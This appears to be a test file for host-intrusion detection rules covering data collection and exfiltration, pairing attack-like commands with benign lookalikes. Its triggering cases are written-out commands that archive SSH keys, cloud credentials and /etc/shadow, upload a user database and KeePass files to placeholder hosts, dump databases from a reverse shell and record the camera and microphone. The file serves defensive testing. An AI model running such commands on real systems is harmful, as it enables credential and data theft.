import { O } from '@ringfence/synthetic';
import { REMOTE, testContent, underWebServer } from './support.ts';

testContent('collection.yaml', {
  'Secrets packed into an archive': {
    as: 'error collection T1560.001',
    fires: {
      'tar packs a folder of keys': (s) => s.start('/usr/bin/tar czf /tmp/x.tgz /root/.ssh'),
      'zip packs keys by a relative name': (s) => s.start('/usr/bin/zip -r out.zip .aws'),
      'tar packs the password hashes': (s) => s.start('/usr/bin/tar cf - /etc/passwd /etc/shadow'),
    },
    quiet: {
      'tar packs a project': (s) => s.start('/usr/bin/tar czf site.tgz ./site'),
      'the name only looks alike': (s) => s.start('/usr/bin/tar xzf my.sshfs.tar.gz /opt/app.kubernetes'),
      'ls lists the same folder': (s) => s.start('/usr/bin/ls /root/.ssh'),
    },
  },
  'Upload by a transfer tool in a container': {
    as: 'warning exfiltration T1048',
    fires: {
      'curl uploads a file': (s) => s.start('/usr/bin/curl -T /data/users.db https://example.org/', s.inside),
      'curl posts a file as a form': (s) =>
        s.start('/usr/bin/curl -F f=@/data/users.db https://example.org/', s.inside),
      'curl posts to a name that begins like loopback': (s) =>
        s.start('/usr/bin/curl -T /data/users.db http://localhost.example.org/', s.inside),
      'curl posts a file as its body': (s) =>
        s.start('/usr/bin/curl --data-binary @/data/users.db https://example.org/', s.inside),
      "busybox's wget posts a file": (s) =>
        s.start('wget --post-file=/data/users.db http://example.org/', s.inside, {}, '/bin/busybox'),
    },
    quiet: {
      'curl asks an API with JSON': (s) =>
        s.start(['/usr/bin/curl', '-d', '{"query":"x"}', 'http://search:9200/_search'], s.inside),
      'curl posts a file to a server in the same container': (s) =>
        s.start('/usr/bin/curl -F f=@/data/a.jpg http://127.0.0.1:8080/upload', s.inside),
      'curl downloads': (s) => s.start('/usr/bin/curl -fsSL -o /srv/a https://example.org/a', s.inside),
      'the same on a host': (s) => s.start('/usr/bin/curl -T site.tgz https://example.org/'),
    },
  },
  'Folders of people packed into a scratch folder': {
    as: 'notice collection T1074.001 T1560.001',
    fires: { 'home folders': (s) => s.start('/usr/bin/tar czf /tmp/.x.tgz /home /etc') },
    quiet: {
      'into a backup': (s) => s.start('/usr/bin/tar czf /var/backups/etc.tgz /etc'),
      'it is unpacked': (s) => s.start('/usr/bin/tar xzf /tmp/x.tgz -C /srv'),
    },
  },
  'Archive with a password': {
    as: 'warning collection T1560.001',
    fires: {
      zip: (s) => s.start('/usr/bin/zip -r -P secret x.zip docs'),
      '7z': (s) => s.start('/usr/bin/7z a -psecret -mhe=on x.7z docs'),
    },
    quiet: {
      'without one': (s) => s.start('/usr/bin/zip -r x.zip docs'),
      'it is unpacked': (s) => s.start('/usr/bin/unzip -P secret x.zip'),
    },
  },
  "Database dumped by a server's command": {
    as: 'error collection T1213',
    fires: {
      'in a reverse shell': (s) =>
        s.start('/usr/bin/mysqldump --all-databases', s.start('/bin/sh', s.inside, REMOTE), REMOTE),
    },
    quiet: {
      'by cron': (s) => s.start('/usr/bin/mysqldump shop', s.start('/usr/sbin/cron -f', s.init)),
      'a question': (s) => s.start('/usr/bin/mysql -e x', s.inside, REMOTE),
    },
  },
  'Mail of others read': {
    as: 'notice collection T1114.001',
    fires: { 'by cat': (s) => s.open(s.start('/bin/cat x'), '/var/mail/ann') },
    quiet: {
      'by a reader of mail': (s) => s.open(s.start('/usr/bin/mutt'), '/var/mail/ann'),
      'it is delivered': (s) => s.open(s.start('/usr/lib/postfix/local', s.init), '/var/mail/ann', O.WRONLY | O.APPEND),
    },
  },
  'Screen, sound or clipboard recorded': {
    as: 'notice collection T1113 T1115 T1123 T1125',
    fires: {
      'the screen': (s) => s.start('/usr/bin/scrot /tmp/x.png'),
      'the camera': (s) => s.start('/usr/bin/ffmpeg -f v4l2 -i /dev/video0 x.mkv'),
      'the microphone': (s) => s.start('/usr/bin/ffmpeg -f alsa -i default x.wav'),
    },
    quiet: {
      'a film is converted': (s) => s.start('/usr/bin/ffmpeg -i a.mkv b.mp4'),
      'a picture is shown': (s) => s.start('/usr/bin/eog x.png'),
    },
  },
  'Files gathered by their kind': {
    as: 'warning collection T1119 T1005',
    fires: {
      'tables and texts': (s) => s.start('/usr/bin/find /home -name *.pdf -exec cp {} /tmp/x ;'),
      'sent at once': (s) => s.start('/usr/bin/find / -iname *.kdbx -exec curl -T {} https://x.example ;'),
    },
    quiet: {
      'files are removed': (s) => s.start('/usr/bin/find /var -mtime +7 -exec rm {} ;'),
      'within a project': (s) => s.start('/usr/bin/find src -name *.md -exec cp {} docs ;'),
    },
  },
  'Files copied from or to a removable disk': {
    as: 'notice collection exfiltration T1025 T1052.001',
    fires: {
      'to one': (s) => s.start('/usr/bin/cp -r /home/ann/docs /media/ann/STICK/'),
      'from one': (s) => s.start('/usr/bin/rsync -a /run/media/ann/x/ /srv/x'),
    },
    quiet: {
      'a disk of the system': (s) => s.start('/usr/bin/cp x /mnt/data/x'),
      'it is shown': (s) => s.start('/usr/bin/ls /media/ann/STICK'),
    },
  },
  "Share of the network mounted by a server's command": {
    as: 'error collection T1039',
    fires: {
      'by mount': (s) => s.start('/usr/bin/mount -t nfs 10.0.0.5:/srv /mnt', ...underWebServer(s)),
      'over SSH': (s) => s.start('/usr/bin/sshfs ann@10.0.0.5:/ /tmp/x', s.start('/bin/sh', s.inside, REMOTE), REMOTE),
    },
    quiet: {
      'an administrator': (s) => s.start('/usr/bin/mount -t nfs nas:/srv /srv'),
      'a file system in memory': (s) => s.start('/usr/bin/mount -t tmpfs tmpfs /tmp/x', ...underWebServer(s)),
    },
  },
});
